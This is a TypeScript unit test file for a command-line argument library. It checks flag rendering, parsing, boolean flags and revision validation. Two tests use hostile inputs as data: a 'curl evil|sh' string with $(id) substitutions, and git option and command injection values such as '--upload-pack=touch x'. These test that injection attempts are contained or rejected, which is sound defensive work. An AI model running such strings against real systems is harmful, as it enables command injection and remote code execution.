import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { commands, detectChanges, encodeInput, inputsJsonSchema, parseArgv, toArgv, flagName, inputKey } from '../src/index.js';
import type { InputsOf } from '../src/index.js';

test('given a definition, toArgv renders flags in definition order and leaves out absent inputs', () => {
  const argv = toArgv(detectChanges, { after: 'b'.repeat(40), repo: '/src', before: 'a'.repeat(40) });
  assert.equal(argv, ['detect-changes', '--repo', '/src', '--before', 'a'.repeat(40), '--after', 'b'.repeat(40)]);
});

test('given an input the command does not declare, toArgv refuses it', () => {
  assert.throws(() => toArgv(detectChanges, { repo: '/src', nope: 'x' }), /has no input "nope"/);
});

test('parseArgv reads what toArgv wrote, for every command', () => {
  for (const command of Object.values(commands)) {
    const values: Record<string, string> = {};
    for (const [key, spec] of Object.entries(command.inputs)) {
      values[key] = spec.kind === 'boolean' ? 'true' : spec.kind === 'string-list' ? '["a"]' : spec.kind === 'integer' ? '3' : spec.enum?.[0] ?? spec.example ?? 'x';
    }
    const parsed = parseArgv(command, toArgv(command, values).slice(1));
    assert.ok(parsed.ok, `${command.name}: ${JSON.stringify(parsed)}`);
  }
});

test('untrusted text stays one argv element, byte for byte', () => {
  const hostile = 'x";curl evil|sh;" $(id) `id`\nnext';
  const argv = toArgv(commands['back-merge'], { repo: 'acme/shop', source: hostile, target: 'dev' });
  assert.is(argv[4], hostile);
  const parsed = parseArgv(commands['back-merge'], argv.slice(1));
  assert.ok(parsed.ok);
  if (parsed.ok) assert.is(parsed.inputs['source'], hostile);
});

test('parseArgv collects every problem: missing required, bad pattern, unknown flag, bad list', () => {
  const parsed = parseArgv(detectChanges, ['--before', 'main:README.md', '--colour', 'red']);
  assert.not.ok(parsed.ok);
  if (!parsed.ok) {
    const subjects = parsed.problems.map((p) => p.subject).sort();
    assert.equal(subjects, ['--after', '--before', '--colour', '--repo']);
    const before = parsed.problems.find((p) => p.subject === '--before');
    assert.is(before?.received, '"main:README.md"');
  }
  const list = parseArgv(commands['copy-config'], ['--repo', '.', '--gitops-url', 'u', '--service', 'api', '--env', 'dev', '--files', 'a.yaml']);
  assert.not.ok(list.ok);
});

test('--flag=value and --output-dir are accepted; an empty list argument is the empty list', () => {
  const parsed = parseArgv(commands['copy-config'], ['--repo=.', '--gitops-url', 'u', '--service', 'api', '--env', 'dev', '--files', '', '--output-dir', '/tmp/o']);
  assert.ok(parsed.ok);
  if (parsed.ok) {
    assert.equal(parsed.inputs['files'], []);
    assert.is(parsed.outputDir, '/tmp/o');
  }
});

test('a boolean flag alone means true: last, or before another flag; a value still reads as given', () => {
  const promote = commands['promote'];
  const base = ['--image', 'registry.acme.io/shop/api:1.0@sha256:' + 'a'.repeat(64), '--from', 'dev', '--to', 'staging'];
  const last = parseArgv(promote, [...base, '--referrers']);
  assert.ok(last.ok, JSON.stringify(last));
  if (last.ok) assert.is(last.inputs['referrers'], true);
  const between = parseArgv(promote, ['--referrers', ...base]);
  assert.ok(between.ok, JSON.stringify(between));
  if (between.ok) {
    assert.is(between.inputs['referrers'], true);
    assert.is(between.inputs['from'], 'dev');
  }
  const explicit = parseArgv(promote, [...base, '--referrers', 'false']);
  assert.ok(explicit.ok && explicit.inputs['referrers'] === false);
  const wrong = parseArgv(promote, [...base, '--referrers', 'yes']);
  assert.not.ok(wrong.ok, 'a value that is not true/false is still refused');
});

test('flag names and input keys map both ways', () => {
  assert.is(flagName('gitopsUrl'), 'gitops-url');
  assert.is(inputKey('gitops-url'), 'gitopsUrl');
  assert.is(encodeInput({ kind: 'string-list', description: '' }, ['a', 'b']), '["a","b"]');
});

test('each command has a JSON schema listing its required inputs', () => {
  const schema = inputsJsonSchema(detectChanges);
  assert.equal(schema.required, ['repo', 'before', 'after']);
  assert.is(schema.properties['before']?.['pattern'], '^(?:[A-Za-z0-9_@][A-Za-z0-9_./@{}~^+-]{0,254})$');
});

test('detect-changes --before takes a SHA or a revision (HEAD~1, main^, v1.4.0, HEAD@{1}), never an option, a path or spaces', () => {
  const args = (before: string) => ['--repo', '.', '--before', before, '--after', 'a'.repeat(40)];
  for (const ok of ['0'.repeat(40), 'HEAD~1', 'main^', 'v1.4.0', 'HEAD@{1}', 'origin/dev', 'abc1234']) {
    assert.ok(parseArgv(detectChanges, args(ok)).ok, ok);
  }
  for (const bad of ['--upload-pack=touch x', '-x', 'HEAD 1', 'HEAD:README.md', '$(touch x)', 'a;b', '']) {
    assert.not.ok(parseArgv(detectChanges, args(bad)).ok, bad);
  }
});

test('InputsOf types required and optional inputs', () => {
  const inputs: InputsOf<typeof detectChanges> = { repo: '.', before: 'a', after: 'b' };
  // @ts-expect-error - `after` is required
  const missing: InputsOf<typeof detectChanges> = { repo: '.', before: 'a' };
  assert.ok(inputs && missing);
});

test.run();
